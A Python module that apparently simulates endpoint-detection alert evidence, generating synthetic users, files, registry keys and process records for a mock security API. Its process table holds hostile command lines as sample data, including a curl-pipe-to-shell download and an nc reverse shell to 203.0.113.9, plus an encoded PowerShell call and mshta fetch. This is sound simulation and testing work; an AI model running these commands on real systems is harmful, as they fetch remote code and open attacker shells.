"""The evidence of an alert: users, processes, files, addresses, URLs, registry values."""

from __future__ import annotations

from random import Random
from typing import Any

from aquila_mde.simulator.catalogue import Family
from aquila_mde.simulator.clock import MINUTE, SECOND, format_time
from aquila_mde.simulator.seeds import guid_of, hex_of

# The service sends every property in every item, null where it has nothing to say.
_NOTHING: dict[str, Any] = dict.fromkeys(
    (
        "entityType",
        "evidenceCreationTime",
        "sha1",
        "sha256",
        "fileName",
        "filePath",
        "processId",
        "processCommandLine",
        "processCreationTime",
        "parentProcessId",
        "parentProcessCreationTime",
        "parentProcessFileName",
        "parentProcessFilePath",
        "ipAddress",
        "url",
        "registryKey",
        "registryHive",
        "registryValueType",
        "registryValue",
        "registryValueName",
        "accountName",
        "domainName",
        "userSid",
        "aadUserId",
        "userPrincipalName",
        "detectionStatus",
    )
)
PEOPLE = ("a.schmidt", "b.okafor", "c.nguyen", "d.rossi", "e.larsen", "f.müller", "svc-backup")
_FILES: dict[Family, tuple[tuple[str, str], ...]] = {
    "windows": (
        ("invoice_4471.exe", "C:\\Users\\Public\\Downloads"),
        ("update.dll", "C:\\ProgramData\\Temp"),
        ("report.docm", "C:\\Users\\a.schmidt\\AppData\\Local\\Temp"),
        ("beacon.ps1", "\\\\fileserver\\share\\tools"),
    ),
    "linux": (("xmrig", "/tmp/.cache"), ("payload.sh", "/dev/shm"), ("cron.py", "/var/tmp")),  # noqa: S108
    "macos": (("Installer.pkg", "/Users/Shared"), ("helper", "/Library/LaunchAgents")),
}
_PROCESSES: dict[Family, tuple[tuple[str, str, str], ...]] = {
    "windows": (
        ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", "-nop -enc SQBFAFgA"),
        ("rundll32.exe", "C:\\Windows\\SysWOW64", "C:\\ProgramData\\Temp\\update.dll,Start"),
        ("cmd.exe", "C:\\Windows\\System32", '/c "whoami /all & net user"'),
        ("mshta.exe", "C:\\Windows\\System32", "http://files.example.net/a.hta"),
        ("wmic.exe", "C:\\Windows\\System32\\wbem", "process call create calc.exe"),
    ),
    "linux": (
        ("bash", "/usr/bin", "-c 'curl -s http://203.0.113.9/i.sh | sh'"),
        ("python3", "/usr/bin", "/opt/app/cron.py --quiet"),
        ("nc", "/usr/bin", "-e /bin/sh 203.0.113.9 4444"),
    ),
    "macos": (
        ("osascript", "/usr/bin", "-e 'display dialog \"Update\"'"),
        ("zsh", "/bin", "-c 'launchctl load /Library/LaunchAgents/helper.plist'"),
    ),
}
_PARENTS: dict[Family, tuple[str, str]] = {
    "windows": ("explorer.exe", "C:\\Windows"),
    "linux": ("systemd", "/usr/lib/systemd"),
    "macos": ("launchd", "/sbin"),
}
_ADDRESSES = ("203.0.113.9", "198.51.100.23", "2001:db8:5::1", "10.20.30.40")
_URLS = (
    "http://files.example.net/a.hta",
    "https://login.example.org/reset?id=77&lang=de",
    "203.0.113.9/i.sh",
)
_REGISTRY = (
    ("HKEY_LOCAL_MACHINE", "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"),
    ("HKEY_CURRENT_USER", "Software\\Classes\\ms-settings\\shell\\open\\command"),
)


def evidence(rng: Random, kind: str, family: Family, seen: int) -> dict[str, Any]:
    """One item of evidence of ``kind``, first seen at ``seen``."""
    item = {
        **_NOTHING,
        "entityType": kind,
        "evidenceCreationTime": format_time(seen + rng.randrange(40 * SECOND)),
    }
    match kind:
        case "User":
            item |= user(rng)
        case "Process":
            item |= _process(rng, family, seen)
        case "File":
            item |= _file(rng, family)
        case "Ip":
            item["ipAddress"] = rng.choice(_ADDRESSES)
        case "Url":
            item["url"] = rng.choice(_URLS)
        case "Registry":
            item |= _registry(rng)
    return item


def user(rng: Random) -> dict[str, Any]:
    """An account as evidence tells it."""
    if rng.random() < 0.1:
        return {"accountName": "SYSTEM", "domainName": "NT AUTHORITY", "userSid": "S-1-5-18"}
    name = rng.choice(PEOPLE)
    found: dict[str, Any] = {
        "accountName": name,
        "domainName": rng.choice(("CONTOSO", "CONTOSO", None)),
        "userSid": (
            f"S-1-5-21-{rng.randrange(10**9)}-{rng.randrange(10**9)}-{rng.randrange(10**9)}-1104"
        ),
    }
    if rng.random() < 0.6:
        found |= {"aadUserId": guid_of(rng), "userPrincipalName": f"{name}@contoso.com"}
    return found


def _hashes(rng: Random) -> dict[str, Any]:
    if rng.random() < 0.05:
        return {"sha1": hex_of(rng, 40)}
    return {"sha1": hex_of(rng, 40), "sha256": hex_of(rng, 64)}


def _status(rng: Random) -> str | None:
    return rng.choices(("Detected", "Prevented", "Blocked", None), weights=(60, 20, 10, 10))[0]


def _process(rng: Random, family: Family, seen: int) -> dict[str, Any]:
    name, folder, arguments = rng.choice(_PROCESSES[family])
    parent, parent_folder = _PARENTS[family]
    started = seen - rng.randrange(5 * MINUTE)
    return {
        **_hashes(rng),
        "fileName": name,
        "filePath": folder,
        "processId": rng.randrange(400, 60_000),
        "processCommandLine": f"{name} {arguments}",
        "processCreationTime": format_time(started),
        "parentProcessId": rng.randrange(4, 9_000),
        "parentProcessCreationTime": format_time(started - rng.randrange(90 * MINUTE)),
        "parentProcessFileName": parent,
        "parentProcessFilePath": parent_folder,
        "detectionStatus": _status(rng),
    }


def _file(rng: Random, family: Family) -> dict[str, Any]:
    name, folder = rng.choice(_FILES[family])
    return {
        **_hashes(rng),
        "fileName": name,
        "filePath": folder,
        "detectionStatus": _status(rng),
    }


def _registry(rng: Random) -> dict[str, Any]:
    hive, key = rng.choice(_REGISTRY)
    return {
        "registryHive": hive,
        "registryKey": key,
        "registryValueName": rng.choice(("Updater", "", None)),
        "registryValue": "C:\\ProgramData\\Temp\\update.dll",
        "registryValueType": rng.choice(("String", "ExpandString", "Unknown")),
    }
